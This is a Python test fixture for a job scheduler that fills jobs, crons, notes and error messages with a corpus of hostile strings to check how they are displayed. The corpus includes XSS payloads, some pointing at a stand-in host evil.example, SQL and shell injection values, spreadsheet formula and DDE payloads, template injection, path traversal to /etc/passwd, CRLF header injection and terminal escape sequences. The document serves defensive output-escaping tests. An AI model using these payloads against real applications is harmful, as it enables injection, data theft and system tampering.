"""Text that means something to whoever shows it: browsers, terminals, spreadsheets, SQL, templates, logs.

`CORPUS` is the text; `make()` an app whose functions can take and fail with it, and `fill(app)` puts all of it wherever
a user can put text.  Whoever shows jobs and crons is tested with what stands in the app afterwards.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any, Final

from actor_scheduler.crons.definition import DESCRIPTION_CHARS_MAX, NAME_CHARS_MAX
from actor_scheduler.limits import KEY_CHARS_MAX, NOTE_CHARS_MAX
from runtime import App, Every, FunctionError, MutationCtx, Namespace, Retry

YEAR: Final = timedelta(days=365)

MARKUP: Final = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg/onload=window.pwned=1>',
    "'-window.pwned=1-'",
    "</title></textarea></style></script><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "<a href='javascript:window.pwned=1'>click</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'>",
    "<!-- --!> <script>window.pwned=1</script>",
    "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;",
    "]]><![CDATA[<x>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=key autofocus onfocus=window.pwned=1>",
)
TERMINAL: Final = (
    "\x1b[2J\x1b[Hgone",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x9b31mC1 control\x9b0m",
    "\x1b[31mred\x1b[0m",
    "over\rwritten",
    "one\ntwo\r\nthree",
    "2026-01-01 00:00:00 INFO forged line\n2026-01-01 00:00:01 INFO another",
    "tab\there",
    "\b\b\b\x7f\x07\x0b\x0c",
    "[bold red]markup of a terminal library[/bold red]",
    "[link=file:///etc/passwd]x[/link]",
)
UNICODE: Final = (
    "\u202egpj.exe",
    "\u2066isolated\u2069 \u202d\u202c",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\ufeffbom first",
    "line\u2028separator\u2029here",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031eA\u0363\u0332\u0323",
    "\u0430dmin with a Cyrillic first letter",
    "e\u0301 is not \u00e9",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\U0010ffff\ufffe\uffff\ufffd",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 123 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "\u3000 \u00a0 spaces \u2003",
    "\u0130stanbul \u1e9e \ufb01",
)
QUOTING: Final = (
    "'",
    '"',
    "\\",
    "`",
    "''; DROP TABLE _scheduler_jobs; --",
    "' OR '1'='1",
    "%",
    "_",
    "100%_\\%",
    "*",
    "?[a-z]^$.|()",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; touch /tmp/pwned #",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "%s%s%n%(x)s",
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "a/b?c=d&e=f#g",
    "%00%0d%0aSet-Cookie: x=1",
    "C:\\con\\nul",
    "--help",
    "-rf",
)
NAMES: Final = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "__class__",
    "null",
    "undefined",
    "NaN",
    "true",
    "None",
    "0",
    "-1",
    "1e309",
    "9007199254740993",
    "[object Object]",
    "$bytes",
    "$float",
    '{"$bytes": "AAAA"}',
)
NULLS: Final = ("\x00", "before\x00after", "\x00\x01\x02\x03\x04\x05\x06\x0e\x0f\x10\x1a\x1c\x1f")
LONG: Final = (
    "n" * 128,
    "long name " * 25,
    "\u202e" * 256,
    "W" * 257,
    "no-space-" * 110,
    "<b>" * 3_000,
    "\U0001f4a3" * 5_000,
    "x" * 100_000,
)

CORPUS: Final[tuple[str, ...]] = (*MARKUP, *TERMINAL, *UNICODE, *QUOTING, *NAMES, *NULLS, *LONG)

KEYS: Final = tuple(text for text in CORPUS if len(text) <= KEY_CHARS_MAX)  # what can be a key or a lane
NOTES: Final = tuple(text for text in CORPUS if len(text) <= min(NOTE_CHARS_MAX, DESCRIPTION_CHARS_MAX))
CRON_NAMES: Final = tuple(
    text
    for text in CORPUS
    if len(text) <= NAME_CHARS_MAX and text.isascii() and text.isprintable() and text == text.strip()
)


class Odd(Exception):
    """Says whatever it was given."""


class Nameless(Exception):
    """Has no words for itself."""

    def __str__(self) -> str:
        msg = "not even this"
        raise RuntimeError(msg)


def functions() -> Namespace[Any]:
    """Return the functions that `fill` needs: they take any text, return it, and fail with it."""
    ns = Namespace[Any]("hostile")

    @ns.mutation
    async def keep(ctx: MutationCtx, *, text: str, more: dict[str, Any] | None = None) -> Any:
        """Return what was given: <script>window.pwned=1</script> & "quotes"."""
        return {"text": text, "more": more}

    @ns.mutation
    async def fail(ctx: MutationCtx, *, text: str) -> None:
        """Fail with an error of these words."""
        raise Odd(text)

    @ns.mutation
    async def refuse(ctx: MutationCtx, *, code: str, message: str) -> None:
        """Fail on purpose, with this code, these words, and both as data."""
        raise FunctionError(code, message, {code: message, "list": [message, None, 1.5, 2**63 - 1]})

    @ns.mutation(retry=Retry(2, base=YEAR, max_delay=YEAR))
    async def fail_twice(ctx: MutationCtx, *, text: str) -> None:
        """Fail, and wait a year before failing again."""
        raise Odd(text)

    @ns.mutation
    async def mute(ctx: MutationCtx) -> None:
        """Fail with an error that can't be read."""
        raise Nameless

    @ns.mutation
    async def blob(ctx: MutationCtx, *, data: bytes) -> bytes:
        """Return bytes."""
        return data

    return ns


def make(db: str = "hostile.db", **options: Any) -> App[Any]:
    """Return an app that `fill` can fill; it is not started."""
    return App(db, namespaces=[functions()], **options)


async def fill(app: App[Any]) -> None:
    """Put every text of the corpus wherever a user can put text: into jobs, crons, notes, failures.

    The app is running and has `functions()`.  Some jobs have ended, some failed, and some are due in years: what is
    there afterwards is the same on every run.
    """
    scheduler = app.scheduler
    ended: list[str] = []
    for text in CORPUS:
        ended.append(await scheduler.run_now("hostile:keep", {"text": text, "more": {text: [text]}}))
        ended.append(await scheduler.run_now("hostile:fail", {"text": text}))
        ended.append(await scheduler.run_now("hostile:refuse", {"code": text, "message": text}))
        ended.append(await scheduler.run_now("hostile:blob", {"data": text.encode()}))
    ended.append(await scheduler.run_now("hostile:mute"))
    for text in KEYS:
        await scheduler.run_after(YEAR, "hostile:keep", {"text": text}, key=text, lane=text, idempotency_key=text)
        await scheduler.run_now("hostile:fail_twice", {"text": text})
    ended.append(await scheduler.run_now("hostile:keep", {"text": "mutations end in order: those before it have too"}))
    for at, name in enumerate(CRON_NAMES):
        note = NOTES[at % len(NOTES)]
        await app.crons.register(name, Every(hours=100), "hostile:keep", {"text": name}, description=note)
    for name, note in zip(CRON_NAMES, NOTES, strict=False):
        ended.append(await app.crons.run_now(name))
        await app.crons.pause(name, note=note)
    for at, note in enumerate(NOTES):  # more notes than names
        name = f"note-{at}"
        await app.crons.register(name, Every(hours=100), "hostile:keep", {"text": note}, description=note)
        await app.crons.pause(name, note=note)
    for job_id in ended:
        await scheduler.wait(job_id)
